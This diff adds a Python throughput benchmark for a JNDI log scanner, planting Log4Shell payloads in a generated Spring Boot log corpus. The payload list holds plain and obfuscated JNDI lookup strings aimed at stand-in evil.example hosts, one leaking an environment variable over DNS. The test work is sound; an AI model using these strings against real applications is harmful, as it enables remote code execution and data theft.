@@ -0,0 +1,103 @@
+"""
+Throughput benchmark for jndi_scan.py on a generated log corpus.
+
+The corpus is Spring Boot style log lines (some with harmless `${...}` placeholders) with
+known JNDI payloads, plain and obfuscated, planted at recorded offsets. It is written as one
+plain log plus a gzip-rotated copy. The scanner must find exactly the planted payloads; the
+result is reported in GB/s for one worker and for --workers.
+
+    python bench_scan.py --mb 512 --workers 4
+"""
+import os
+import gzip
+import json
+import random
+import shutil
+import argparse
+import tempfile
+
+from jndi_scan import scan_paths
+
+BENIGN = [
+    'INFO  c.e.LogController - User input: {text}',
+    'DEBUG o.s.web.servlet.DispatcherServlet - Completed 200 OK in {n} ms',
+    'INFO  o.s.b.w.e.tomcat.TomcatWebServer - Tomcat started on port(s): 8080 (http)',
+    'WARN  c.e.LogController - Rejected input from 10.0.{n}.7: unresolved ${{spring.profile}}',
+    'INFO  c.e.Audit - user={text} path=/api/items/{n} ua="Mozilla/5.0 (X11; Linux x86_64)"',
+    'ERROR c.e.Jobs - job {n} failed: {{"code": 500, "msg": "${{missing.key}}"}}',
+]
+WORDS = ['hello', 'world', 'order', 'checkout', 'cart', 'alice', 'bob', 'search', 'widget', 'login']
+PAYLOADS = [
+    ('${{jndi:ldap://evil{n}.example/a}}', 'ldap'),
+    ('${{${{lower:j}}ndi:${{lower:l}}${{lower:d}}a${{lower:p}}://evil{n}.example/o}}', 'ldap'),
+    ('${{${{::-j}}${{::-n}}${{::-d}}${{::-i}}:${{::-r}}${{::-m}}${{::-i}}://evil{n}.example/b}}', 'rmi'),
+    ('${{${{env:NaN:-j}}ndi${{env:NaN:-:}}${{env:NaN:-d}}ns://evil{n}.example/${{env:USER}}}}', 'dns'),
+    ('%24%7Bjndi:ldaps://evil{n}.example/c%7D', 'ldaps'),
+    ('${{jNdI:${{upper:r}}mi://evil{n}.example}}', 'rmi'),
+]
+
+
+def write_corpus(path, size, rate=1e-4, seed=1):
+    """Write about `size` bytes of log lines; returns the planted [(offset, protocol)]."""
+    rng = random.Random(seed)
+    planted, offset = [], 0
+    with open(path, 'wb') as f:
+        while offset < size:
+            lines = []
+            for i in range(1000):
+                prefix = f'2024-01-{1 + i % 28:02d} 12:{i % 60:02d}:{(i * 7) % 60:02d}.{i % 1000:03d}  '
+                if rng.random() < rate:
+                    template, protocol = rng.choice(PAYLOADS)
+                    prefix += 'INFO  c.e.LogController - User input: '
+                    planted.append((offset + sum(map(len, lines)) + len(prefix), protocol))
+                    line = prefix + template.format(n=i)
+                else:
+                    line = prefix + rng.choice(BENIGN).format(text=rng.choice(WORDS), n=i)
+                lines.append((line + '\n').encode())
+            block = b''.join(lines)
+            f.write(block)
+            offset += len(block)
+    return planted
+
+
+def _check(stats, hits, planted, label):
+    found = sorted((h['offset'], h['protocol']) for h in hits)
+    if found != sorted(planted):
+        raise AssertionError(f'{label}: found {len(found)} payloads, planted {len(planted)}')
+    print(f"{label:<24}{stats['bytes'] / 1e6:>10.1f}{stats['seconds']:>10.3f}{stats['gb_per_s']:>9.3f}")
+
+
+class _Collect(list):
+    def write(self, line):
+        self.append(json.loads(line))
+
+
+def main():
+    ap = argparse.ArgumentParser(description='Benchmark the JNDI log scanner')
+    ap.add_argument('--mb', type=int, default=256, help='Size of the plain corpus')
+    ap.add_argument('--workers', type=int, default=os.cpu_count())
+    ap.add_argument('--rate', type=float, default=1e-4, help='Fraction of lines carrying a payload')
+    args = ap.parse_args()
+
+    tmp = tempfile.mkdtemp(prefix='jndi-bench-')
+    try:
+        log = os.path.join(tmp, 'app.log')
+        planted = write_corpus(log, args.mb << 20, args.rate)
+        with open(log, 'rb') as src, gzip.open(log + '.1.gz', 'wb', compresslevel=1) as dst:
+            shutil.copyfileobj(src, dst)
+        print(f'{len(planted)} payloads planted in {os.path.getsize(log) / 1e6:.1f} MB')
+        print(f"{'run':<24}{'MB':>10}{'seconds':>10}{'GB/s':>9}")
+        for label, paths, workers in (
+            ('plain, 1 worker', [log], 1),
+            (f'plain, {args.workers} workers', [log], args.workers),
+            ('gzip, 1 worker', [log + '.1.gz'], 1),
+        ):
+            hits = _Collect()
+            stats = scan_paths(paths, workers, out=hits)
+            _check(stats, hits, planted, label)
+    finally:
+        shutil.rmtree(tmp, ignore_errors=True)
+
+
+if __name__ == '__main__':
+    main()